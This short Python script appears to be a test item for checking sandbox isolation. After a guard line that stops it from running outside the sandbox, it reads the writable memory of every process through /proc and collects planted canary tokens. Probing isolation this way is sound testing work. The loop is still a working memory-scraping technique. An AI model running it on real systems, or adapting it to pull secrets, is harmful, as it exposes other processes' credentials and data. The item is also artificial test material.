# Searches its own memory, and that of every process, for what others left there.
# marks: 3
# reaches: looked True
# stock: skip: it searches the memory of every process
raise RuntimeError("an attack: it is run in the sandbox alone")

# %% append imports
import glob
import re

WANTED = re.compile(rb"C" rb"ANARY-[0-9a-f]{32}")
found, looked = set(), 0
for folder in glob.glob("/proc/[0-9]*"):
    try:
        with open(folder + "/maps") as maps, open(folder + "/mem", "rb", 0) as memory:
            for line in maps:
                span, rights = line.split()[:2]
                if rights[:2] != "rw":
                    continue
                start, end = (int(x, 16) for x in span.split("-"))
                try:
                    memory.seek(start)
                    found.update(WANTED.findall(memory.read(min(end - start, 1 << 26))))
                    looked += 1
                except (OSError, OverflowError):
                    continue
    except OSError:
        continue
print("looked", looked > 0, sorted(found))
